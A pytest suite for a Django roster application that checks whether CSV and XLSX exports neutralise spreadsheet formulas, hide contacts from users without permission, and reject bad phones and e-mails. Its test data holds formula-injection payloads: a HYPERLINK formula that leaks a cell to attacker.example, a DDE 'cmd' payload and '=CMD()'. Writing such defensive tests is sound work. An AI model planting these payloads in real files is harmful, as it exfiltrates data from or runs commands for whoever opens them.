"""Roster exports neutralise formulas (a cell starting with = + - @, a tab or a carriage
return comes back as text in CSV and XLSX), leave names and contacts out without the
personal-data permission; phones and e-mails are validated at every door."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest
from django.contrib.auth.models import Permission
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from readiness.rosters.models import StaffMember, Warden
from readiness.rosters.resources import formula_safe, formula_unescaped
from readiness.rosters.services import staff_confirm
from readiness.scenarios.schema import parse_scenario
from readiness.scenarios.services import scenario_load
from tests.factories import PostFactory, StaffMemberFactory, UserFactory

pytestmark = pytest.mark.django_db

CSV, XLSX = "0", "1"
EVIL = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
PHONE_EVIL = '=HYPERLINK("http://a.example")'  # fits a phone's 40 characters


@pytest.fixture
def post(db):  # type: ignore[no-untyped-def]
    return PostFactory(code="ML-BKO")


def export(client: Client, fmt: str, model: str = "staffmember") -> bytes:
    url = reverse(f"admin:rosters_{model}_export")
    form = client.get(url).context["form"]
    data = {"format": fmt, "resource": "0"}
    for name in form.fields:
        if name.startswith(f"{model}resource_"):
            data[name] = "on"
    response = client.post(url, data)
    assert response.status_code == 200
    return response.content


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def xlsx_cells(content: bytes) -> list[openpyxl.cell.Cell]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for row in book.active.iter_rows() for cell in row]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "  ="])
def test_a_formula_comes_back_as_text_in_csv_and_xlsx(admin_client, post, start):  # type: ignore[no-untyped-def]
    # Written past validation, as old data or a direct database write could be.
    staff = StaffMemberFactory(post=post, name=start + "cmd|' /C calc'!A0", role=EVIL)
    StaffMember.objects.filter(pk=staff.pk).update(phone=PHONE_EVIL)

    rows = csv_rows(export(admin_client, CSV))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + EVIL in cells and "'" + PHONE_EVIL in cells
    assert "'" + start + "cmd|' /C calc'!A0" in cells
    assert not any(c.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)

    for cell in xlsx_cells(export(admin_client, XLSX)):
        assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
    texts = [c.value for c in xlsx_cells(export(admin_client, XLSX))]
    assert "'" + EVIL in texts and "'" + PHONE_EVIL in texts


def test_plain_values_are_exported_unchanged(admin_client, post):  # type: ignore[no-untyped-def]
    StaffMemberFactory(post=post, name="A. Diallo", phone="00223 20 00 00 00")
    rows = csv_rows(export(admin_client, CSV))
    assert "A. Diallo" in rows[1] and "00223 20 00 00 00" in rows[1]


def test_an_international_phone_is_text_too(admin_client, post):  # type: ignore[no-untyped-def]
    """A spreadsheet reads "+223 20 ..." as a sum: it comes back as text, apostrophe first."""
    StaffMemberFactory(post=post, name="A. Diallo", phone="+223 20 00 00 00")
    assert "'+223 20 00 00 00" in csv_rows(export(admin_client, CSV))[1]


def test_an_exported_file_imports_unchanged(admin_client, post):  # type: ignore[no-untyped-def]
    StaffMemberFactory(post=post, name="-Group of drivers", role="=SUM(1,1)")
    content = export(admin_client, CSV)
    StaffMember.objects.all().delete()
    preview = admin_client.post(
        reverse("admin:rosters_staffmember_import"),
        {"resource": "0", "format": CSV, "import_file": SimpleUploadedFile("s.csv", content)},
    )
    form = preview.context["confirm_form"]
    admin_client.post(reverse("admin:rosters_staffmember_process_import"), form.initial)
    staff = StaffMember.objects.get()
    assert (staff.name, staff.role) == ("-Group of drivers", "=SUM(1,1)")


def test_formula_helpers_round_trip() -> None:
    for value in (EVIL, "+33 1", "-", "@x", "\tx", "plain", "'quoted", "", 12, None):
        assert formula_unescaped(formula_safe(value)) == value


def test_export_without_the_permission_has_no_names_or_contacts(post):  # type: ignore[no-untyped-def]
    StaffMemberFactory(post=post, name="Aminata Secret", phone="+223 76 00 00 01", headcount=3)
    user = UserFactory(username="keeper", is_staff=True)
    user.user_permissions.add(Permission.objects.get(codename="view_staffmember"))
    client = Client()
    client.force_login(user)
    content = export(client, CSV)
    text = content.decode("utf-8-sig")
    assert "Aminata Secret" not in text and "+223 76 00 00 01" not in text
    header = csv_rows(content)[0]
    assert "name" not in header and "phone" not in header and "email" not in header
    assert "headcount" in header


# --- Phones and e-mails on input ------------------------------------------------------


@pytest.mark.parametrize("phone", [EVIL, "call me", "12", "+1 2 3", "=1+1"])
def test_admin_refuses_a_phone_that_is_not_a_number(admin_client, post, phone):  # type: ignore[no-untyped-def]
    response = admin_client.post(
        reverse("admin:rosters_warden_add"),
        {"post": post.pk, "zone": "ACI", "name": "M. Traore", "phone": phone, "email": ""},
    )
    assert response.status_code == 200
    errors = response.context["adminform"].form.errors["phone"]
    assert errors, "the phone field is named"
    assert not Warden.objects.exists()


def test_admin_refuses_a_bad_email(admin_client, post):  # type: ignore[no-untyped-def]
    response = admin_client.post(
        reverse("admin:rosters_warden_add"),
        {"post": post.pk, "zone": "ACI", "name": "M. Traore", "phone": "", "email": "=x@"},
    )
    assert "valid email" in response.content.decode()
    assert not Warden.objects.exists()


def test_admin_takes_a_real_phone(admin_client, post):  # type: ignore[no-untyped-def]
    admin_client.post(
        reverse("admin:rosters_warden_add"),
        {"post": post.pk, "zone": "ACI", "name": "M. Traore", "phone": "+223 66 00 00 00"},
    )
    assert Warden.objects.get().phone == "+223 66 00 00 00"


def test_import_refuses_a_formula_phone_naming_the_row(admin_client, post):  # type: ignore[no-untyped-def]
    content = (
        b"post,name,role,category,essential,headcount,dependants,email,phone,present,last_confirmed_at\n"
        b"ML-BKO,A. Diallo,Consul,expatriate,1,1,0,,=HYPERLINK(1),1,\n"
    )
    preview = admin_client.post(
        reverse("admin:rosters_staffmember_import"),
        {"resource": "0", "format": CSV, "import_file": SimpleUploadedFile("s.csv", content)},
    )
    assert preview.context.get("confirm_form") is None
    assert "Enter a phone number" in preview.content.decode()
    assert not StaffMember.objects.exists()


def test_the_dashboard_confirmation_refuses_a_bad_phone(post):  # type: ignore[no-untyped-def]
    staff = StaffMemberFactory(post=post, phone="")
    with pytest.raises(ValidationError) as error:
        staff_confirm(staff=staff, present=True, email="", phone="=CMD()")
    assert "phone" in error.value.message_dict
    staff.refresh_from_db()
    assert staff.phone == ""


def test_a_scenario_warden_contact_must_be_a_phone(db):  # type: ignore[no-untyped-def]
    text = Path(__file__).resolve().parents[2].joinpath("seeds", "exercise-quiet-post.yaml")
    scenario_yaml = text.read_text()
    assert "wardens:" in scenario_yaml
    evil = '  - {zone: Z9, name: Evil, contact: "=CMD()"}\n'
    bad = scenario_yaml.replace("wardens:\n", "wardens:\n" + evil, 1)
    with pytest.raises(ValueError, match="phone"):
        scenario_load(parse_scenario(bad))
